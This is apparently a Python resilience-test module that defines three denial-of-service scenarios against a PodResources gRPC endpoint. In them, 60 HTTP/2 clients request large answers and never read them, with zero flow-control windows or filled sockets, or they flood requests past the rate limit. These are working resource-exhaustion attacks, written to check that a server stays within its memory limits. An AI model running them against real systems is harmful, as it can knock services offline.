"""PodResources clients that ask and never read."""

from __future__ import annotations

import contextlib
import time
from functools import partial

from tools.attack import http2
from tools.attack.beside import beside
from tools.attack.model import Attack, Limits, Target

_CLIENTS, _CALLS = 60, 20
_METHODS = ("/v1.PodResourcesLister/GetAllocatableResources", "/v1.PodResourcesLister/List")
_DEVICES, _ID_LENGTH = 10_000, 100


def attacks() -> list[Attack]:
    """Answers of 1.1 MB: 1.3 GB if all of them wait at once."""
    # 64 MiB may wait, and as many calls at once make their answers.
    limits = Limits(memory=250.0, kept=150.0, descriptors=_CLIENTS + 100)
    scene = {"devices": _DEVICES, "id_length": _ID_LENGTH}
    return [
        beside(
            "list-unread",
            f"{_CLIENTS} clients x {_CALLS} calls for 1.1 MB, which open no window to send it",
            partial(_unread, window=0),
            limits,
            settings={"pod_resources_qps": None},
            **scene,
        ),
        beside(
            "list-unread-socket",
            f"{_CLIENTS} clients x {_CALLS} calls for 1.1 MB, whose sockets fill up",
            partial(_unread, window=(1 << 31) - 1),
            limits,
            settings={"pod_resources_qps": None},
            **scene,
        ),
        beside(
            "list-flood-clients",
            f"{_CLIENTS} clients that ask as fast as they can, within the rate limit or not",
            _ask,
            limits,
            **scene,
        ),
    ]


def _calls(first: int) -> bytes:
    streams = range(first, first + 2 * _CALLS, 2)
    return b"".join(http2.call(stream, _METHODS[0]) for stream in streams)


def _unread(target: Target, window: int) -> None:
    """Ask, stay a while, and go."""
    first = http2.PREFACE + http2.settings(window=window) + _calls(1)
    with contextlib.ExitStack() as stack:
        for _ in range(_CLIENTS):
            stack.enter_context(http2.connect(target.pod_resources, first))
        time.sleep(8)


def _ask(target: Target) -> None:
    with contextlib.ExitStack() as stack:
        connections = [
            stack.enter_context(
                http2.connect(target.pod_resources, http2.PREFACE + http2.settings())
            )
            for _ in range(_CLIENTS)
        ]
        end = time.monotonic() + 6
        for turn in range(10_000):
            for connection in connections:
                connection.setblocking(False)
                with contextlib.suppress(OSError):
                    while connection.recv(1 << 20):
                        continue
                connection.setblocking(True)
                connection.sendall(http2.call(2 * turn + 1, _METHODS[turn % 2]))
            if time.monotonic() > end:
                return
